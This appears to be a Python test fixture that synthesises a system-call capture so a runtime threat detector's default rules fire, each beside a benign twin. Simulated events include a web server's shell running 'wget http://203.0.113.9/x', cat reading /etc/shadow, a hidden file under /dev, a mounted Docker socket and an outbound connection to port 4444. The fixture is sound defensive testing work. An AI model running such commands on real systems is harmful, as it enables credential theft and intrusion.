"""A capture in which the six behaviours of the default rules happen, each beside a harmless twin.

It was made by this program and not recorded: python -m tests.functional.six_behaviours writes it anew.
"""

from __future__ import annotations

import json
from collections.abc import Iterable
from pathlib import Path

from falco.state.snapshot import Interface
from falco.state.users import Group, User
from tests.conftest import CAPTURES
from tests.events import Builder, Built, ends, process, write_capture

PATH = CAPTURES / "made" / "six_behaviours.scap"
CONTAINER = "3f1c9d5a7b24" + "e0" * 26
TTY = 34816

FIRES = {
    "Terminal shell in container": 1,
    "Launch Privileged Container": 1,
    "Launch Sensitive Mount Container": 1,
    "DB program spawned process": 1,
    "Run shell untrusted": 1,
    "Read sensitive file untrusted": 1,
    "Create files below dev": 1,
    "System procs network activity": 1,
}
"""Rule -> how many alerts the capture gives."""


def write(path: Path = PATH) -> Path:
    """Write the capture."""
    builder = Builder()
    containers(builder)
    processes(builder)
    return write_events(path, builder.built)


def write_events(path: Path, events: Iterable[Built]) -> Path:
    """Write a capture of events on the machine where the behaviours happen."""
    inside = [("cpu", f"/docker/{CONTAINER}")]
    threads = [
        process(1, ptid=0, comm="systemd", exe="/sbin/init"),
        process(50, comm="bash", exe="-bash", exepath="/bin/bash", cwd="/root", tty=TTY),
        process(60, ptid=1, comm="sh", exe="sh", exepath="/bin/sh", cgroups=inside, vpid=1, vtid=1),
        process(70, comm="nginx", exe="nginx", exepath="/usr/sbin/nginx", uid=33, gid=33),
        process(71, comm="mysqld", exe="mysqld", exepath="/usr/sbin/mysqld", uid=100, gid=100),
    ]
    interfaces = [
        Interface("lo", bytes((127, 0, 0, 1)), bytes((255, 0, 0, 0)), bytes((127, 255, 255, 255))),
        Interface("eth0", bytes((10, 0, 0, 5)), bytes((255, 255, 255, 0)), bytes((10, 0, 0, 255))),
    ]
    accounts: list[User | Group] = [
        User(0, 0, "root", "/root", "/bin/bash"),
        User(33, 33, "www-data", "/var/www", ""),
        Group(0, "root"),
    ]
    return write_capture(path, events, threads, interfaces, accounts)


def _container(builder: Builder, identity: str, **details: object) -> None:
    image = {"image": "example.com/app:1.2", "imagerepo": "example.com/app", "imagetag": "1.2", "type": 0}
    row = {"id": identity, "name": f"app-{identity[:4]}", "privileged": False, **image, **details}
    builder.add("CONTAINER_JSON_E", tid=-1, json=json.dumps({"container": row}))


def containers(builder: Builder) -> None:
    """Before everything a known container; then one that is privileged, one with a socket mounted, a plain one."""
    _container(builder, CONTAINER[:12])
    builder.add("GENERIC_E", tid=1, ID=16)
    mount = {"Source": "/var/run/docker.sock", "Destination": "/var/run/docker.sock", "Mode": "rw", "RW": True}
    _container(builder, "aaaa00000001", privileged=True)
    _container(builder, "bbbb00000002", Mounts=[{**mount, "Propagation": "rprivate"}])
    _container(builder, "cccc00000003", Mounts=[{**mount, "Source": "/srv", "Destination": "/srv"}])


def processes(builder: Builder) -> None:
    """What processes do: all but the containers' own behaviours."""
    _shells(builder)
    _servers(builder)
    _files(builder)
    _network(builder)


def _exec(builder: Builder, tid: int, program: str, *args: str, parent: int = 50, **values: object) -> None:
    """A child of parent begins and runs a program."""
    comm = program.rpartition("/")[2]
    ids = {"tid_": tid, "pid": tid, "ptid": parent, "cwd": "", "fdlimit": 1024}
    builder.add("SYSCALL_CLONE_20_E", tid=parent)
    builder.add(
        "SYSCALL_CLONE_20_X", tid=parent, res=tid, exe="parent", comm="parent", vtid=parent, vpid=parent,
        **{**ids, "tid_": parent, "pid": parent, "ptid": 1},
    )  # fmt: skip
    builder.add("SYSCALL_EXECVE_19_E", tid=tid, filename=program)
    builder.add(
        "SYSCALL_EXECVE_19_X",
        tid=tid,
        res=0,
        exe=program,
        args=list(args),
        comm=comm,
        env=["PATH=/bin"],
        **ids,
        **values,
    )


def _shells(builder: Builder) -> None:
    """A shell with a terminal in the container, one without, and one with a terminal on the host."""
    cgroups = [f"cpu=/docker/{CONTAINER}"]
    _exec(builder, 201, "/bin/bash", "-i", parent=60, tty=TTY, cgroups=cgroups)
    _exec(builder, 202, "/bin/bash", "-c", "date", parent=60, tty=0, cgroups=cgroups)
    _exec(builder, 203, "/bin/bash", tty=TTY)


def _servers(builder: Builder) -> None:
    """The database starts a program, the web server a shell; both also start themselves."""
    _exec(builder, 301, "/usr/bin/id", parent=71)
    _exec(builder, 302, "/usr/sbin/mysqld", parent=71)
    _exec(builder, 303, "/bin/sh", "-c", "wget http://203.0.113.9/x", parent=70)
    _exec(builder, 304, "/usr/sbin/nginx", parent=70)


def _open(builder: Builder, tid: int, name: str, flags: str, fd: int = 3) -> None:
    builder.add("SYSCALL_OPENAT_2_E", tid=tid)
    builder.add("SYSCALL_OPENAT_2_X", tid=tid, fd=fd, dirfd=-100, name=name, flags=flags, mode=0o600)


def _files(builder: Builder) -> None:
    """cat reads the password hashes and sudo does, a script hides a file below /dev and another uses /dev/null."""
    _exec(builder, 401, "/bin/cat", "/etc/shadow")
    _open(builder, 401, "/etc/shadow", "O_RDONLY")
    _open(builder, 401, "/etc/gshadow", "O_RDONLY", fd=-13)
    _exec(builder, 402, "/usr/bin/sudo", "-i")
    _open(builder, 402, "/etc/shadow", "O_RDONLY")
    _exec(builder, 403, "/usr/bin/perl", "x.pl")
    _open(builder, 403, "/dev/.udev-cache", "O_WRONLY|O_CREAT")
    _open(builder, 403, "/dev/null", "O_WRONLY|O_CREAT")


def _connect(builder: Builder, tid: int, to: str) -> None:
    builder.add("SOCKET_SOCKET_E", tid=tid, domain=2, type=1, proto=6)
    builder.add("SOCKET_SOCKET_X", tid=tid, fd=4)
    builder.add("SOCKET_CONNECT_E", tid=tid, fd=4)
    builder.add("SOCKET_CONNECT_X", tid=tid, res=0, tuple=ends(f"10.0.0.5:40000->{to}"))


def _network(builder: Builder) -> None:
    """tail connects to another machine, and to this one; curl may do both."""
    _exec(builder, 501, "/usr/bin/tail", "-f", "/dev/tcp")
    _connect(builder, 501, "203.0.113.9:4444")
    _connect(builder, 501, "127.0.0.1:4444")
    _exec(builder, 502, "/usr/bin/curl", "http://203.0.113.9/")
    _connect(builder, 502, "203.0.113.9:80")


if __name__ == "__main__":
    print(write())
